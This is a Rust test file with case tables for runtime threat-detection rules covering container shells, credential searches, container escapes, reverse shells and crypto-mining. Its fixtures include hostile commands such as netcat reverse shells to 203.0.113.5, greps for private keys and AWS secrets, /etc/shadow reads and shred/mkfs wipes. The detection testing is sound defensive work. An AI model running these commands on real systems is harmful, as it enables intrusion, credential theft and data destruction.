//! One table per rule: named cases, each an event and whether the rule matches it.

use super::super::catalogue::RuntimeRule;
use super::super::event::{Action, PtraceRequest, SocketPeer, cap, socket};
use super::super::matching;
use super::super::output;
use super::*;

type Row = (&'static str, Case, bool);

const TTY: u32 = 34816;

/// The cases of a rule. The match is exhaustive, so a new rule cannot go without a table.
fn table(rule: RuntimeRule) -> Vec<Row> {
    use RuntimeRule as R;
    match rule {
        R::TerminalShell => vec![
            (
                "kubectl exec -it bash",
                exec("bash", &[]).tty(TTY).parent(None),
                true,
            ),
            (
                "sh below the runtime's init",
                exec("sh", &[]).tty(TTY).parent(Some("runc")),
                true,
            ),
            (
                "zsh below conmon",
                exec("zsh", &["-l"]).tty(TTY).parent(Some("conmon")),
                true,
            ),
            (
                "no terminal (kubectl exec without -t)",
                exec("bash", &["-c", "id"]).parent(None),
                false,
            ),
            (
                "a shell started from a shell",
                exec("bash", &[]).tty(TTY).parent(Some("bash")),
                false,
            ),
            (
                "not a shell",
                exec("python3", &[]).tty(TTY).parent(None),
                false,
            ),
            (
                "a shell below the application",
                exec("sh", &[]).tty(TTY).parent(Some("node")),
                false,
            ),
        ],
        R::RunShellUntrusted => vec![
            (
                "sh below nginx",
                exec("sh", &["-c", "id"]).parent(Some("nginx")),
                true,
            ),
            (
                "bash below php-fpm below nginx",
                exec("bash", &["-i"])
                    .parent(Some("php-fpm"))
                    .ancestors(&["nginx"]),
                true,
            ),
            (
                "sh below mysqld",
                exec("sh", &["-c", "cat /etc/passwd"]).parent(Some("mysqld")),
                true,
            ),
            (
                "sh below a child of redis-server",
                exec("sh", &[])
                    .parent(Some("lua"))
                    .ancestors(&["redis-server"]),
                true,
            ),
            (
                "a known question to the system",
                exec("sh", &["-c", "uname -a 2>&1"]).parent(Some("nginx")),
                false,
            ),
            (
                "a liveness check",
                exec("sh", &["-c", "kill -0 1"]).parent(Some("nginx")),
                false,
            ),
            (
                "postgres archiving WAL with wal-e",
                exec(
                    "sh",
                    &[
                        "-c",
                        "envdir /etc/wal-e.d/env /usr/local/bin/wal-e wal-push x",
                    ],
                )
                .parent(Some("postgres")),
                false,
            ),
            (
                "the parent is a shell",
                exec("sh", &[]).parent(Some("bash")).ancestors(&["nginx"]),
                false,
            ),
            (
                "cron below a server",
                exec("sh", &[]).parent(Some("cron")).ancestors(&["nginx"]),
                false,
            ),
            (
                "no protected server above",
                exec("sh", &[]).parent(Some("node")),
                false,
            ),
            ("the entrypoint", exec("sh", &[]).parent(None), false),
            (
                "package installation scripts",
                exec("sh", &["-c", "postinst"])
                    .parent(Some("frontend"))
                    .ancestors(&["apt-get", "nginx"]),
                false,
            ),
        ],
        R::DropAndExecuteNewBinary => vec![
            (
                "a downloaded tool",
                exec("xmrig", &[]).exe("/tmp/xmrig").written_after_start(),
                true,
            ),
            (
                "a binary replaced in the image's path",
                exec("kubectl", &[])
                    .exe("/usr/local/bin/kubectl")
                    .written_after_start(),
                true,
            ),
            (
                "from a shell",
                exec("x", &[]).parent(Some("bash")).written_after_start(),
                true,
            ),
            (
                "part of the image",
                exec("nginx", &[]).exe("/usr/sbin/nginx"),
                false,
            ),
            (
                "a script in the image at /tmp",
                exec("run", &[]).exe("/tmp/run"),
                false,
            ),
            (
                "an open of a new file is not an execution",
                open("x", "/tmp/x", "r").written_after_start(),
                false,
            ),
        ],
        R::ExecutionFromDevShm => vec![
            (
                "a binary in /dev/shm",
                exec("x", &[]).exe("/dev/shm/x"),
                true,
            ),
            (
                "a shell running a script there",
                exec("bash", &["-c", "/dev/shm/run.sh"]).exe("/bin/bash"),
                true,
            ),
            (
                "a shell given the script",
                exec("sh", &["/dev/shm/payload.sh"]).exe("/bin/sh"),
                true,
            ),
            (
                "./ in /dev/shm",
                exec("python3", &["./x.py"]).cwd("/dev/shm"),
                true,
            ),
            (
                "a look-alike directory",
                exec("x", &[]).exe("/dev/shmem/x"),
                false,
            ),
            (
                "a node agent that does this by design",
                exec("x", &[])
                    .exe("/dev/shm/x")
                    .image("quay.io/calico/node:v3.27.0"),
                false,
            ),
            ("not a shell", exec("python3", &["-c", "/dev/shm/x"]), false),
            (
                "./ elsewhere",
                exec("python3", &["./x.py"]).cwd("/tmp"),
                false,
            ),
        ],
        R::FilelessExecution => vec![
            (
                "a memfd payload",
                exec("payload", &[])
                    .exe("/memfd:payload (deleted)")
                    .memfd_exe(),
                true,
            ),
            (
                "below a shell",
                exec("x", &[]).parent(Some("bash")).memfd_exe(),
                true,
            ),
            (
                "with a kernel-thread name",
                exec("kworker", &[]).exe("/memfd: (deleted)").memfd_exe(),
                true,
            ),
            (
                "runc's own copy",
                exec("runc", &["init"]).memfd_exe(),
                false,
            ),
            (
                "runc's cloned binary",
                exec("x", &[])
                    .exe("/memfd:runc_cloned:/proc/self/exe (deleted)")
                    .memfd_exe(),
                false,
            ),
            (
                "started by runc",
                exec("x", &[]).parent(Some("runc")).memfd_exe(),
                false,
            ),
            ("a file on disk", exec("x", &[]).exe("/usr/bin/x"), false),
        ],
        R::DebugfsInPrivilegedContainer => vec![
            ("debugfs", exec("debugfs", &[]).privileged(), true),
            (
                "on the node's disk",
                exec("debugfs", &["/dev/sda1"]).privileged(),
                true,
            ),
            (
                "read-write",
                exec("debugfs", &["-w", "/dev/nvme0n1p1"]).privileged(),
                true,
            ),
            ("not privileged", exec("debugfs", &["/dev/sda1"]), false),
            (
                "another tool",
                exec("fsck", &["/dev/sda1"]).privileged(),
                false,
            ),
            ("a look-alike", exec("debugfs.sh", &[]).privileged(), false),
        ],
        R::KernelModuleInjection => vec![
            (
                "insmod with CAP_SYS_MODULE",
                act("insmod", Action::ModuleLoad).caps(&[cap::SYS_MODULE]),
                true,
            ),
            (
                "modprobe with every capability",
                act("modprobe", Action::ModuleLoad).caps(&(0..41).collect::<Vec<_>>()),
                true,
            ),
            (
                "any program",
                act("x", Action::ModuleLoad).caps(&[cap::SYS_MODULE, cap::SYS_ADMIN]),
                true,
            ),
            (
                "without the capability (it fails)",
                act("insmod", Action::ModuleLoad),
                false,
            ),
            (
                "CAP_SYS_ADMIN alone",
                act("insmod", Action::ModuleLoad).caps(&[cap::SYS_ADMIN]),
                false,
            ),
            (
                "starting insmod is not loading",
                exec("insmod", &["x.ko"]).caps(&[cap::SYS_MODULE]),
                false,
            ),
        ],
        R::PtraceAttached => vec![
            ("attach", ptrace("gdb", PtraceRequest::Attach), true),
            ("poke", ptrace("inject", PtraceRequest::Poke), true),
            (
                "PTRACE_SETREGS",
                ptrace("inject", PtraceRequest::Other(13)),
                true,
            ),
            (
                "PTRACE_SETREGSET",
                ptrace("inject", PtraceRequest::Other(0x4205)),
                true,
            ),
            ("PTRACE_TRACEME", ptrace("x", PtraceRequest::TraceMe), false),
            (
                "PTRACE_GETREGS",
                ptrace("strace", PtraceRequest::Other(12)),
                false,
            ),
            ("name unknown", ptrace("", PtraceRequest::Attach), false),
        ],
        R::PtraceAntiDebug => vec![
            ("traceme", ptrace("malware", PtraceRequest::TraceMe), true),
            (
                "traceme below a shell",
                ptrace("x", PtraceRequest::TraceMe).parent(Some("sh")),
                true,
            ),
            (
                "traceme by root",
                ptrace("x", PtraceRequest::TraceMe).uid(0),
                true,
            ),
            ("attach", ptrace("gdb", PtraceRequest::Attach), false),
            ("name unknown", ptrace("", PtraceRequest::TraceMe), false),
            (
                "PTRACE_PEEKTEXT",
                ptrace("x", PtraceRequest::Other(1)),
                false,
            ),
        ],
        R::ReadSensitiveFileUntrusted => vec![
            ("cat /etc/shadow", open("cat", "/etc/shadow", "r"), true),
            (
                "python reading sudoers.d",
                open("python3", "/etc/sudoers.d/90-users", "r"),
                true,
            ),
            (
                "node opening PAM read-write",
                open("node", "/etc/pam.d/common-auth", "rw"),
                true,
            ),
            (
                "cp outside passwd",
                open("cp", "/etc/shadow", "r").parent(Some("bash")),
                true,
            ),
            ("not sensitive", open("cat", "/etc/passwd", "r"), false),
            (
                "sudo reading sudoers",
                open("sudo", "/etc/sudoers", "r"),
                false,
            ),
            (
                "a shell reading it",
                open("bash", "/etc/shadow", "r"),
                false,
            ),
            ("written, not read", open("cat", "/etc/shadow", "w"), false),
            (
                "passwd's own copy",
                open("cp", "/etc/shadow", "r").parent(Some("passwd")),
                false,
            ),
            (
                "below pam.d, not in it",
                open("cat", "/etc/pam.d/sub/x", "r"),
                false,
            ),
            (
                "an Ansible module",
                open("python3", "/etc/shadow", "r").args(&["/tmp/ansible_user_payload.py"]),
                false,
            ),
            (
                "runuser reading its PAM file",
                open("runuser", "/etc/pam.d/runuser", "r"),
                false,
            ),
            ("a package manager", open("dpkg", "/etc/shadow", "r"), false),
        ],
        R::ReadSensitiveFileTrustedAfterStartup => vec![
            (
                "nginx a minute in",
                open("nginx", "/etc/shadow", "r").age(60),
                true,
            ),
            (
                "postgres 6 s in",
                open("postgres", "/etc/pam.d/postgresql", "r").age(6),
                true,
            ),
            (
                "httpd an hour in",
                open("httpd", "/etc/sudoers", "r").age(3600),
                true,
            ),
            (
                "nginx while starting",
                open("nginx", "/etc/shadow", "r").age(2),
                false,
            ),
            (
                "exactly 5 s is still startup",
                open("nginx", "/etc/shadow", "r").age(5),
                false,
            ),
            ("sshd", open("sshd", "/etc/shadow", "r").age(60), false),
            (
                "not a server",
                open("node", "/etc/shadow", "r").age(60),
                false,
            ),
            (
                "not sensitive",
                open("nginx", "/etc/hosts", "r").age(60),
                false,
            ),
        ],
        R::DirectoryTraversalRead => vec![
            (
                "../../etc/passwd",
                open("node", "/etc/passwd", "r").raw_path("/app/public/../../etc/passwd"),
                true,
            ),
            (
                "root's key",
                open("java", "/root/.ssh/id_rsa", "r").raw_path("static/../../root/.ssh/id_rsa"),
                true,
            ),
            (
                "a user's ssh directory",
                open("python3", "/home/alice/.ssh/authorized_keys", "r")
                    .raw_path("../../../home/alice/.ssh/authorized_keys"),
                true,
            ),
            (
                "four levels up",
                open("php-fpm", "/etc/shadow", "r").raw_path("../../../../etc/shadow"),
                true,
            ),
            (
                "one ../ only",
                open("node", "/etc/passwd", "r").raw_path("../etc/passwd"),
                false,
            ),
            (
                "not a monitored file",
                open("node", "/app/static/x.css", "r").raw_path("../../app/static/x.css"),
                false,
            ),
            (
                "a shell's child",
                open("cat", "/etc/passwd", "r")
                    .raw_path("../../etc/passwd")
                    .parent(Some("bash")),
                false,
            ),
            (
                "a write",
                open("node", "/etc/passwd", "w").raw_path("../../etc/passwd"),
                false,
            ),
            ("an absolute path", open("node", "/etc/passwd", "r"), false),
        ],
        R::SearchPrivateKeysOrPasswords => vec![
            (
                "grep an RSA key",
                exec("grep", &["-r", "BEGIN RSA PRIVATE", "/"]),
                true,
            ),
            (
                "egrep any case",
                exec("egrep", &["-ri", "begin openssh private", "/home"]),
                true,
            ),
            ("find id_rsa", exec("find", &["/", "-name", "id_rsa"]), true),
            (
                "find ed25519 keys",
                exec("find", &["/", "-name", "id_ed25519*"]),
                true,
            ),
            (
                "grep a certificate",
                exec("grep", &["-r", "BEGIN CERTIFICATE", "/"]),
                false,
            ),
            (
                "find pem files",
                exec("find", &["/", "-name", "*.pem"]),
                false,
            ),
            ("cat a key", exec("cat", &["/root/.ssh/id_rsa"]), false),
            (
                "grep for a password",
                exec("grep", &["-r", "password", "/etc"]),
                false,
            ),
        ],
        R::FindAwsCredentials => vec![
            (
                "grep the secret key",
                exec("grep", &["-ri", "aws_secret_access_key", "/"]),
                true,
            ),
            (
                "grep AccessKeyId",
                exec("fgrep", &["-r", "AccessKeyId", "."]),
                true,
            ),
            (
                "find the credentials file",
                exec("find", &["/", "-path", "*/.aws/credentials"]),
                true,
            ),
            (
                "find any credentials",
                exec("find", &["/", "-name", "credentials"]),
                false,
            ),
            (
                "cat the file",
                exec("cat", &["/root/.aws/credentials"]),
                false,
            ),
            (
                "grep the region",
                exec("grep", &["-r", "aws_region", "/"]),
                false,
            ),
            (
                "find starting there",
                exec("find", &["/root/.aws/credentials", "-newer", "x"]),
                false,
            ),
        ],
        R::ClearLogActivities => vec![
            (
                "syslog truncated",
                open("sh", "/var/log/syslog", "wt"),
                true,
            ),
            (
                "an access_log anywhere",
                open("x", "/app/logs/access_log", "wt"),
                true,
            ),
            (
                "any file in /var/log",
                open("x", "/var/log/messages", "rwt"),
                true,
            ),
            (
                "appended, not truncated",
                open("rsyslogd", "/var/log/syslog", "w"),
                false,
            ),
            (
                "below /var/log/nginx",
                open("nginx", "/var/log/nginx/error.log", "wt"),
                false,
            ),
            (
                "a log shipper",
                open("fluentd", "/var/log/syslog", "wt")
                    .image("docker.io/fluent/fluentd-kubernetes-daemonset:v1.16"),
                false,
            ),
            (
                "truncate flag on a read",
                open("x", "/var/log/syslog", "rt"),
                false,
            ),
        ],
        R::RemoveBulkData => vec![
            ("shred", exec("shred", &["-u", "/data/db"]), true),
            ("mkfs", exec("mkfs", &["-t", "ext4", "/dev/sdb"]), true),
            (
                "mkfs.ext4 directly",
                exec("mkfs.ext4", &["/dev/sdb"]).parent(Some("bash")),
                true,
            ),
            ("mke2fs", exec("mke2fs", &["/dev/sdb"]), true),
            ("rm", exec("rm", &["-rf", "/data"]), false),
            (
                "mkfs.ext4 below mkfs",
                exec("mkfs.ext4", &["/dev/sdb"]).parent(Some("mkfs")),
                false,
            ),
            ("a look-alike", exec("shredder", &[]), false),
            ("dd", exec("dd", &["if=/dev/zero", "of=/dev/sdb"]), false),
        ],
        R::SymlinkOverSensitiveFiles => vec![
            ("to /etc/shadow", link("/etc/shadow", "/tmp/s", true), true),
            ("to /etc", link("/etc", "/app/static/etc", true), true),
            ("to /root/", link("/root/", "/tmp/r", true), true),
            (
                "to the filesystem root",
                link("/", "/app/public/all", true),
                true,
            ),
            ("a hard link", link("/etc/shadow", "/tmp/s", false), false),
            ("to /etc/passwd", link("/etc/passwd", "/tmp/p", true), false),
            (
                "to a backup",
                link("/etc/shadow.bak", "/tmp/s", true),
                false,
            ),
        ],
        R::HardlinkOverSensitiveFiles => vec![
            ("to /etc/shadow", link("/etc/shadow", "/tmp/s", false), true),
            (
                "to /etc/sudoers",
                link("/etc/sudoers", "/tmp/s", false),
                true,
            ),
            (
                "to pwquality",
                link("/etc/security/pwquality.conf", "/tmp/q", false),
                true,
            ),
            (
                "a symbolic link",
                link("/etc/shadow", "/tmp/s", true),
                false,
            ),
            ("to /etc itself", link("/etc", "/tmp/e", false), false),
            ("to shadow-", link("/etc/shadow-", "/tmp/s", false), false),
        ],
        R::ReleaseAgentEscape => vec![
            (
                "root with CAP_SYS_ADMIN",
                open("sh", "/sys/fs/cgroup/rdma/release_agent", "w")
                    .uid(0)
                    .caps(&[cap::SYS_ADMIN]),
                true,
            ),
            (
                "a user with CAP_DAC_OVERRIDE",
                open("sh", "/tmp/cgrp/release_agent", "w")
                    .uid(1000)
                    .caps(&[cap::DAC_OVERRIDE, cap::SYS_ADMIN]),
                true,
            ),
            (
                "read-write",
                open("python3", "/mnt/x/release_agent", "rw")
                    .uid(0)
                    .caps(&[cap::SYS_ADMIN]),
                true,
            ),
            (
                "root without CAP_SYS_ADMIN",
                open("sh", "/tmp/cgrp/release_agent", "w").uid(0),
                false,
            ),
            (
                "a user without CAP_DAC_OVERRIDE",
                open("sh", "/tmp/cgrp/release_agent", "w")
                    .uid(1000)
                    .caps(&[cap::SYS_ADMIN]),
                false,
            ),
            (
                "read only",
                open("cat", "/sys/fs/cgroup/release_agent", "r")
                    .uid(0)
                    .caps(&[cap::SYS_ADMIN]),
                false,
            ),
            (
                "notify_on_release",
                open("sh", "/tmp/cgrp/x/notify_on_release", "w")
                    .uid(0)
                    .caps(&[cap::SYS_ADMIN]),
                false,
            ),
        ],
        R::ContactK8sApiServer => vec![
            ("the Service", connect("curl", "10.96.0.1", 443), true),
            (
                "an endpoint",
                connect("python3", "192.168.1.10", 6443),
                true,
            ),
            (
                "IPv4 in IPv6",
                connect("java", "::ffff:10.96.0.1", 443),
                true,
            ),
            ("another port", connect("curl", "10.96.0.1", 80), false),
            (
                "from kube-system",
                connect("coredns", "10.96.0.1", 443).namespace("kube-system"),
                false,
            ),
            (
                "a known API client",
                connect("prometheus", "10.96.0.1", 443)
                    .image("quay.io/prometheus/prometheus:v2.53.0"),
                false,
            ),
            ("another address", connect("curl", "10.96.0.2", 443), false),
        ],
        R::NetcatRemoteCodeExecution => vec![
            (
                "nc -e",
                exec("nc", &["-e", "/bin/sh", "203.0.113.5", "4444"]),
                true,
            ),
            (
                "nc -c last",
                exec("nc", &["203.0.113.5", "4444", "-c", "sh"]),
                true,
            ),
            (
                "ncat --sh-exec",
                exec("ncat", &["--sh-exec", "bash", "-l", "9000"]),
                true,
            ),
            (
                "ncat -e",
                exec("ncat", &["-e", "/bin/bash", "203.0.113.5", "443"]),
                true,
            ),
            (
                "nc.traditional -e",
                exec("nc.traditional", &["-e", "/bin/sh", "h", "1"]),
                true,
            ),
            ("a port scan", exec("nc", &["-zv", "db", "5432"]), false),
            ("a listener", exec("ncat", &["-l", "8080"]), false),
            ("socat", exec("socat", &["exec:bash", "tcp:h:1"]), false),
            ("nc -lvp", exec("nc", &["-lvp", "4444"]), false),
        ],
        R::RedirectStdioToNetwork => vec![
            ("stdin", dup(0, true), true),
            ("stdout", dup(1, true), true),
            ("stderr", dup(2, true), true),
            ("another descriptor", dup(3, true), false),
            ("a file onto stdin", dup(0, false), false),
            ("a pipe onto stderr", dup(2, false), false),
        ],
        R::PacketSocket => vec![
            (
                "raw packet socket",
                sock(socket::AF_PACKET, socket::SOCK_RAW),
                true,
            ),
            (
                "datagram packet socket",
                sock(socket::AF_PACKET, socket::SOCK_DGRAM),
                true,
            ),
            (
                "tcpdump",
                act(
                    "tcpdump",
                    Action::Socket {
                        family: socket::AF_PACKET,
                        kind: socket::SOCK_RAW,
                        protocol: 768,
                    },
                ),
                true,
            ),
            (
                "raw IPv4 (ping)",
                sock(socket::AF_INET, socket::SOCK_RAW),
                false,
            ),
            (
                "IPv6 stream",
                sock(socket::AF_INET6, socket::SOCK_STREAM),
                false,
            ),
            ("netlink", sock(16, socket::SOCK_RAW), false),
        ],
        R::SshNonStandardPort => vec![
            (
                "to 443",
                connect("ssh", "203.0.113.5", 443).exe("/usr/bin/ssh"),
                true,
            ),
            (
                "to 80",
                connect("ssh", "198.51.100.7", 80).exe("/usr/bin/ssh"),
                true,
            ),
            (
                "to 4444 over IPv6",
                connect("ssh", "2001:db8::7", 4444).exe("/usr/local/bin/ssh"),
                true,
            ),
            (
                "to 22",
                connect("ssh", "203.0.113.5", 22).exe("/usr/bin/ssh"),
                false,
            ),
            (
                "to a private address",
                connect("ssh", "10.0.0.5", 443).exe("/usr/bin/ssh"),
                false,
            ),
            (
                "curl to 443",
                connect("curl", "203.0.113.5", 443).exe("/usr/bin/curl"),
                false,
            ),
            (
                "over UDP",
                connect("ssh", "203.0.113.5", 53)
                    .exe("/usr/bin/ssh")
                    .protocol(17),
                false,
            ),
        ],
        R::PackageManagement => vec![
            (
                "apt-get install",
                exec("apt-get", &["install", "-y", "curl"]),
                true,
            ),
            ("apk add", exec("apk", &["add", "--no-cache", "nmap"]), true),
            ("pip install", exec("pip", &["install", "requests"]), true),
            (
                "python -m pip install",
                exec("python3", &["-m", "pip", "install", "--user", "x"]),
                true,
            ),
            ("rpm -ivh", exec("rpm", &["-ivh", "x.rpm"]), true),
            ("npm i", exec("npm", &["i", "left-pad"]), true),
            (
                "yum -y install",
                exec("yum", &["-y", "install", "gcc"]),
                true,
            ),
            ("dpkg -i", exec("dpkg", &["-i", "x.deb"]), true),
            ("dpkg -l", exec("dpkg", &["-l"]), false),
            ("rpm -qa", exec("rpm", &["-qa"]), false),
            ("pip list", exec("pip3", &["list"]), false),
            (
                "dpkg below apt-get",
                exec("dpkg", &["--unpack", "x.deb"]).parent(Some("apt-get")),
                false,
            ),
            ("apt list", exec("apt", &["list", "--installed"]), false),
            ("npm start", exec("npm", &["start"]), false),
            (
                "python -m http.server",
                exec("python3", &["-m", "http.server"]),
                false,
            ),
        ],
        R::WriteBelowBinaryDirOrEtc => vec![
            ("overwrite a binary", open("curl", "/usr/bin/ls", "w"), true),
            (
                "create a cron job",
                open("sh", "/etc/cron.d/job", "wc"),
                true,
            ),
            (
                "rename into /usr/local/bin",
                act(
                    "mv",
                    Action::Rename {
                        from: "/tmp/k".into(),
                        to: "/usr/local/bin/kubectl".into(),
                    },
                ),
                true,
            ),
            (
                "remove /bin/sh",
                act(
                    "rm",
                    Action::Unlink {
                        path: "/bin/sh".into(),
                    },
                ),
                true,
            ),
            (
                "link into /usr/bin",
                act(
                    "ln",
                    Action::Link {
                        target: "/tmp/x".into(),
                        path: "/usr/bin/x".into(),
                        symbolic: true,
                    },
                ),
                true,
            ),
            (
                "an entrypoint writing a binary directory",
                open("cp", "/usr/local/bin/tool", "wc").ancestors(&["docker-entrypoi"]),
                true,
            ),
            ("read /etc/passwd", open("cat", "/etc/passwd", "r"), false),
            ("write /tmp", open("x", "/tmp/x", "w"), false),
            ("dpkg", open("dpkg", "/usr/bin/x", "wc"), false),
            (
                "below apt-get",
                open("sh", "/etc/x", "w")
                    .parent(Some("dpkg"))
                    .ancestors(&["apt-get"]),
                false,
            ),
            (
                "an entrypoint rendering config",
                open("envsubst", "/etc/nginx/conf.d/default.conf", "wct")
                    .parent(Some("20-envsubst-on"))
                    .ancestors(&["docker-entrypoi"]),
                false,
            ),
            (
                "a look-alike directory",
                open("x", "/usr/binary/x", "w"),
                false,
            ),
            (
                "ldconfig's cache",
                open("ldconfig", "/etc/ld.so.cache~", "wc"),
                false,
            ),
        ],
        R::CryptoMiningPool => vec![
            ("stratum 3333", connect("xmrig", "203.0.113.9", 3333), true),
            (
                "stratum TLS 14444",
                connect("x", "198.51.100.3", 14444),
                true,
            ),
            ("over IPv6", connect("x", "2001:db8::5", 5555), true),
            (
                "a private address",
                connect("grafana", "10.0.0.3", 3333),
                false,
            ),
            ("HTTPS", connect("x", "203.0.113.9", 443), false),
            ("UDP", connect("x", "203.0.113.9", 3333).protocol(17), false),
        ],
    }
}

fn ptrace(name: &str, request: PtraceRequest) -> Case {
    act(
        name,
        Action::Ptrace {
            request,
            target_pid: 4000,
        },
    )
}

fn link(target: &str, path: &str, symbolic: bool) -> Case {
    act(
        "ln",
        Action::Link {
            target: target.into(),
            path: path.into(),
            symbolic,
        },
    )
}

fn dup(new_fd: u32, socket: bool) -> Case {
    act(
        "bash",
        Action::Dup {
            new_fd,
            socket: socket.then(|| SocketPeer {
                address: "203.0.113.5".parse().expect("address"),
                port: 4444,
            }),
        },
    )
}

fn sock(family: u16, kind: u16) -> Case {
    act(
        "x",
        Action::Socket {
            family,
            kind,
            protocol: 0,
        },
    )
}

fn check(rule: RuntimeRule) {
    let mut failures = Vec::new();
    for (name, c, want) in table(rule) {
        let got = matching::matches(rule, &c.event, &c.pod, &c.cluster);
        if got != want {
            failures.push(format!("{name}: matched {got}, want {want}"));
        }
        if want {
            let text = output::output(rule, &c.event, &c.pod);
            assert!(
                text.contains(" | ") && text.contains(" k8s_pod=web-1 "),
                "{}: {name}: {text}",
                rule.id()
            );
        }
    }
    assert!(
        failures.is_empty(),
        "{}:\n{}",
        rule.id(),
        failures.join("\n")
    );
}

#[test]
fn every_rule_has_three_matches_and_three_near_misses() {
    for rule in RuntimeRule::ALL {
        let rows = table(rule);
        let hits = rows.iter().filter(|r| r.2).count();
        assert!(hits >= 3, "{}: {hits} positive cases", rule.id());
        assert!(
            rows.len() - hits >= 3,
            "{}: {} negative cases",
            rule.id(),
            rows.len() - hits
        );
        let mut names: Vec<_> = rows.iter().map(|r| r.0).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), rows.len(), "{}: case names repeat", rule.id());
    }
}

/// What an ordinary web application does all day matches no rule.
#[test]
fn ordinary_activity_matches_nothing() {
    let quiet = [
        exec("node", &["server.js"]).parent(None),
        exec("nginx", &["-g", "daemon off;"]).parent(None),
        exec("sh", &["-c", "node server.js"]).parent(None),
        open("node", "/app/server.js", "r"),
        open("node", "/etc/passwd", "r"),
        open("node", "/etc/hosts", "r"),
        open("node", "/tmp/upload-1", "wc"),
        open("nginx", "/var/log/nginx/access.log", "w"),
        connect("node", "10.0.3.4", 5432),
        connect("node", "203.0.113.80", 443),
        act(
            "node",
            Action::Socket {
                family: socket::AF_INET,
                kind: socket::SOCK_STREAM,
                protocol: 6,
            },
        ),
        act("node", Action::MemfdCreate { name: "v8".into() }),
        act(
            "node",
            Action::Unlink {
                path: "/tmp/upload-1".into(),
            },
        ),
    ];
    for c in quiet {
        for rule in RuntimeRule::ALL {
            assert!(
                !matching::matches(rule, &c.event, &c.pod, &c.cluster),
                "{} matched {:?}",
                rule.id(),
                c.event
            );
        }
    }
}

macro_rules! rule_tests {
    ($($test:ident => $rule:ident,)*) => {
        $(
            #[test]
            fn $test() {
                check(RuntimeRule::$rule);
            }
        )*
    };
}

rule_tests! {
    terminal_shell => TerminalShell,
    run_shell_untrusted => RunShellUntrusted,
    drop_and_execute_new_binary => DropAndExecuteNewBinary,
    execution_from_dev_shm => ExecutionFromDevShm,
    fileless_execution => FilelessExecution,
    debugfs_in_privileged_container => DebugfsInPrivilegedContainer,
    kernel_module_injection => KernelModuleInjection,
    ptrace_attached => PtraceAttached,
    ptrace_anti_debug => PtraceAntiDebug,
    read_sensitive_file_untrusted => ReadSensitiveFileUntrusted,
    read_sensitive_file_trusted_after_startup => ReadSensitiveFileTrustedAfterStartup,
    directory_traversal_read => DirectoryTraversalRead,
    search_private_keys_or_passwords => SearchPrivateKeysOrPasswords,
    find_aws_credentials => FindAwsCredentials,
    clear_log_activities => ClearLogActivities,
    remove_bulk_data => RemoveBulkData,
    symlink_over_sensitive_files => SymlinkOverSensitiveFiles,
    hardlink_over_sensitive_files => HardlinkOverSensitiveFiles,
    release_agent_escape => ReleaseAgentEscape,
    contact_k8s_api_server => ContactK8sApiServer,
    netcat_remote_code_execution => NetcatRemoteCodeExecution,
    redirect_stdio_to_network => RedirectStdioToNetwork,
    packet_socket => PacketSocket,
    ssh_non_standard_port => SshNonStandardPort,
    package_management => PackageManagement,
    write_below_binary_dir_or_etc => WriteBelowBinaryDirOrEtc,
    crypto_mining_pool => CryptoMiningPool,
}
